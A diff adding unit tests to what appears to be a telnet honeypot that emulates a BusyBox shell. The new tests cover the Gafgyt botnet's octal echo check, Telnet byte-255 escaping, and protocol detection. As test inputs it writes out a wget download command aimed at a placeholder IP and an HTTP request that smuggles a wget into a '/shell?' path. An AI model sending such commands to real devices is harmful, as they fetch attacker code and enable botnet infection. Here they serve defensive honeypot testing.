@@ -142,6 +142,9 @@ static void echo_prints_bytes(void **state)
     answers(state, "echo -ne '\\x41c4\\x42'", "Ac4B");
     answers(state, "echo -e \"\\x6b\\x61\\x6d\\x69\"", "kami\r\n");
     answers(state, "echo -en '\\0101\\n'", "A\r\n");
+    /* Gafgyt's check: BusyBox takes octal without a zero before it. */
+    answers(state, "echo -e '\\147\\141\\171\\146\\147\\164'", "gayfgt\r\n");
+    answers(state, "echo -e '\\1019\\8'", "A9\\8\r\n");
     answers(state, "echo '\\x41' b", "\\x41 b\r\n");
     answers(state, "echo -n a; echo b", "ab\r\n");
     answers(state, "echo hidden >/dev/null 2>&1", "");
@@ -155,6 +158,8 @@ static void commands_are_chained(void **state)
     answers(state, "cd /tmp && echo y || echo n", "y\r\n");
     answers(state, "cat /nowhere >/dev/null && echo y || echo n",
             "cat: can't open '/nowhere': No such file or directory\r\nn\r\n");
+    answers(state, "wget http://192.0.2.9/x -O - > d; echo x; cat d",
+            "wget: can't connect to remote host: Connection timed out\r\nx\r\n");
     answers(state, "mkdir x&&chmod 777 x;echo $?", "$?\r\n");
     answers(state, "cat /proc/mounts | grep nothing", "");
     answers(state, "whatever", "\r\n");
@@ -163,6 +168,8 @@ static void commands_are_chained(void **state)
     answers(state, "''", "\r\n");
     answers(state, "'open > \"quote", "\r\n");
     answers(state, ";;&&||()", "");
+    answers(state, "echo 1 2 3 4 5 6 7 8 9 a b c d e f g h i j k l m n o p q r s t u v w x y z",
+            "1 2 3 4 5 6 7 8 9 a b c d e f g h i j k l m n o p q r s t u v\r\n");
 }
 
 static void options_are_refused_but_for_ours(void **state)
@@ -179,6 +186,15 @@ static void subnegotiation_is_no_text(void **state)
     struct played *played = play(persona_of_port(*state, 23), naws, sizeof naws - 1, 1);
     assert_string_equal(played->heard, "login root 1234 accepted\n");
     free(played);
+}
+
+/* RFC 854: a byte 255 among data is sent twice. */
+static void byte_255_is_no_command(void **state)
+{
+    said(state, "r\xff\xff\n\n", HELLO "r\xff\xff\r\nPassword: \r\n" BANNER "# ",
+         "login r\xff  accepted\n");
+    answers(state, "echo -ne '\\xff\\x41'", "\xff\xff\x41");
+    answers(state, "echo -ne '\\xff' > f; cat f", "\xff\xff");
 }
 
 static void line_ends_in_any_way(void **state)
@@ -228,7 +244,31 @@ static void request_of_another_protocol_is_no_login(void **state)
     said(state, "GET / HTTP/1.0\r\nHost: a\r\n\r\n", HELLO "GET / HTTP/1.0\r\n", "");
     said(state, "OPTIONS sip:nm SIP/2.0\r\nFrom: a\r\n", HELLO "OPTIONS sip:nm SIP/2.0\r\n", "");
     said(state, "HTTP/1.1\nb", HELLO "HTTP/1.1\r\nPassword: ", "login HTTP/1.1 b refused\n");
+    said(state, "A SIP/1x1\nb", HELLO "A SIP/1x1\r\nPassword: ", "login A SIP/1x1 b refused\n");
     said(state, "a b/1.1\nb", HELLO "a b/1.1\r\nPassword: ", "login a b/1.1 b refused\n");
+}
+
+/* Who was answered by lines, and who only by what is kept of his bytes. */
+static void lines_are_a_dialogue_and_requests_are_not(void **state)
+{
+    static const struct {
+        uint16_t port;
+        const char *text;
+        bool dialogue;
+    } cases[] = {
+        {23, "", true},
+        {23, ENTER "wget http://192.0.2.9/x", true},
+        {23, ENTER "GET / HTTP/1.0\r\n", true},
+        {23, "GET /shell?wget+http://192.0.2.9/x HTTP/1.1\r\n\r\n", false},
+        {80, "GET / HTTP/1.0\r\n\r\n", false},
+        {5555, "CNXN", false},
+        {443, "", false},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        struct played *played = play_text(persona_of_port(*state, cases[i].port), cases[i].text);
+        assert_int_equal(persona_is_dialogue(&played->session), cases[i].dialogue);
+        free(played);
+    }
 }
 
 static void long_line_is_handed_over_in_pieces_that_lose_nothing(void **state)
@@ -323,12 +363,14 @@ int main(void)
         cmocka_unit_test(commands_are_chained),
         cmocka_unit_test(options_are_refused_but_for_ours),
         cmocka_unit_test(subnegotiation_is_no_text),
+        cmocka_unit_test(byte_255_is_no_command),
         cmocka_unit_test(line_ends_in_any_way),
         cmocka_unit_test(password_is_not_echoed),
         cmocka_unit_test(client_that_wants_no_echo_gets_none),
         cmocka_unit_test(keys_edit_the_line),
         cmocka_unit_test(unfinished_line_is_handed_over_at_the_end),
         cmocka_unit_test(request_of_another_protocol_is_no_login),
+        cmocka_unit_test(lines_are_a_dialogue_and_requests_are_not),
         cmocka_unit_test(long_line_is_handed_over_in_pieces_that_lose_nothing),
         cmocka_unit_test(accepts_from_the_configured_try_on),
         cmocka_unit_test(hangs_up_after_too_many_refusals),
